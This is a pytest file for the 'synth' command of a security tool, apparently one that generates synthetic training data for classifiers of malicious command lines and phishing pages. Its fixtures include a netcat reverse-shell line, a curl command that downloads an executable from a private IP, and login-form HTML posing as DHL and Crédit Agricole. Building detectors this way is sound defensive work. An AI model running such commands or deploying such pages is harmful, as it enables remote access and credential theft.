"""``distilsec synth`` end to end on tiny files with the programmatic generators."""

from __future__ import annotations

import json

from typer.testing import CliRunner

from distilsec.cli.app import app
from tests.conftest import BENIGN, MALICIOUS

runner = CliRunner()


def test_cmdline_seeds_with_protected_file(tmp_path):
    seeds = tmp_path / "seeds.jsonl"
    with open(seeds, "w", encoding="utf-8") as fh:
        for t in MALICIOUS:
            fh.write(json.dumps({"text": t, "label": "malicious", "group": t.split()[0]}) + "\n")
        for t in BENIGN:
            fh.write(json.dumps({"text": t, "label": "benign", "group": t.split()[0]}) + "\n")
        fh.write("{not json\n")
    lines = tmp_path / "more.txt"
    lines.write_bytes(b"nc -e /bin/sh 10.9.9.9 4444\n\xff\xfe garbage bytes\n")
    protect = tmp_path / "test.txt"
    protect.write_text("curl.exe -s -o a.exe http://10.0.0.5/a.exe\n", encoding="utf-8")
    out = tmp_path / "run"
    res = runner.invoke(
        app,
        [
            "synth",
            str(seeds),
            str(lines),
            "--label",
            "malicious",
            "--task",
            "cmdline",
            "--n-per-seed",
            "3",
            "--protect",
            str(protect),
            "--out",
            str(out),
            "--seed",
            "1",
        ],
    )
    assert res.exit_code == 0, res.output
    stats = json.loads((out / "stats.json").read_text())
    assert stats["generated"] == 21 * 3 and stats["kept"] > 20
    assert stats["kept"] + stats["rejected"] == stats["generated"]
    assert stats["near_duplicate_share_protected"] == 0.0 and stats["protected_size"] == 1
    assert stats["seed_skips"] == {"json_error": 1, "undecodable_bytes": 1}
    rows = [json.loads(line) for line in (out / "samples.jsonl").read_text().splitlines()]
    assert len(rows) == stats["kept"]
    assert {"text", "label", "group", "provenance"} <= set(rows[0]) and rows[0]["provenance"]["seed_ids"]
    report = (out / "report.md").read_text()
    assert "| generated |" in report and "## Samples of each kind" in report and "malicious /" in report
    assert (out / "rejected.jsonl").exists()
    again = tmp_path / "run2"
    runner.invoke(
        app,
        [
            "synth",
            str(seeds),
            str(lines),
            "--label",
            "malicious",
            "--task",
            "cmdline",
            "--n-per-seed",
            "3",
            "--protect",
            str(protect),
            "--out",
            str(again),
            "--seed",
            "1",
        ],
    )
    assert (again / "samples.jsonl").read_text() == (out / "samples.jsonl").read_text()  # same seed, same data


def test_html_folder_with_a_judge_free_mutate_run(tmp_path):
    pages = tmp_path / "pages"
    pages.mkdir()
    (pages / "a.html").write_text(
        "<html><head><title>DHL - Track</title></head><body><form><input type=text name=user>"
        "<input type=password name=pass><button>Sign in</button></form></body></html>",
        encoding="utf-8",
    )
    (pages / "b.htm").write_bytes(b"<html><body><h1>Cr\xe9dit Agricole</h1><form><input type=password></form></body>")
    out = tmp_path / "run"
    res = runner.invoke(app, ["synth", str(pages), "--label", "malicious", "--n-per-seed", "2", "--out", str(out)])
    assert res.exit_code == 0, res.output
    stats = json.loads((out / "stats.json").read_text())
    assert stats["task"] == "html" and stats["kept"] == 4 and stats["seed_notes"] == {"page_not_utf8": 1}


def test_errors_are_one_line_not_a_traceback(tmp_path):
    res = runner.invoke(app, ["synth", str(tmp_path / "missing.txt"), "--out", str(tmp_path / "o")])
    assert res.exit_code == 2 and "not found" in res.output
    seeds = tmp_path / "s.txt"
    seeds.write_text("ls -la\n", encoding="utf-8")
    res = runner.invoke(app, ["synth", str(seeds), "--out", str(tmp_path / "o")])
    assert res.exit_code == 2 and "no label" in res.output
    res = runner.invoke(app, ["synth", str(seeds), "--label", "benign", "--generator", "gpt", "--out", str(tmp_path)])
    assert res.exit_code == 2 and "--generator" in res.output


def test_seeds_from_a_run_config_filtered_by_group(tmp_path):
    import csv

    table = tmp_path / "events.csv"
    with open(table, "w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh)
        w.writerow(["text", "label", "group"])
        for i, t in enumerate(MALICIOUS + BENIGN):
            for j in range(3):
                w.writerow([f"{t} --tag{i}x{j * 7919}", "malicious" if t in MALICIOUS else "benign", f"g{i}"])
    cfg = tmp_path / "cfg.yaml"
    cfg.write_text(
        f"run: {{name: t, seed: 0}}\ndata: {{task: table, path: {table}, group_column: group}}\n"
        "curation: {near_dup_threshold: 0.99}\nsplit: {val_fraction: 0.2, test_fraction: 0.3}\n"
        "teacher: {type: encoder.v1}\nstudents: {linear: {type: hashed_linear.v1}}\n",
        encoding="utf-8",
    )
    from distilsec.methods.synthesize.seeds import seeds_from_config

    train, protected, task = seeds_from_config(cfg)
    group = train[0].group
    out = tmp_path / "run"
    res = runner.invoke(app, ["synth", "--config", str(cfg), "--group", group, "--task", "cmdline", "--out", str(out)])
    assert res.exit_code == 0, res.output
    stats = json.loads((out / "stats.json").read_text())
    assert stats["n_seeds"] == sum(ex.group == group for ex in train) and stats["protected_size"] == len(protected) > 0
    assert stats["near_duplicate_share_protected"] == 0.0
    rows = [json.loads(line) for line in (out / "samples.jsonl").read_text().splitlines()]
    assert rows and {r["group"] for r in rows} == {group}
    bad = runner.invoke(app, ["synth", "--group", group, "--out", str(tmp_path / "x")])
    assert bad.exit_code == 2 and "--config" in bad.output
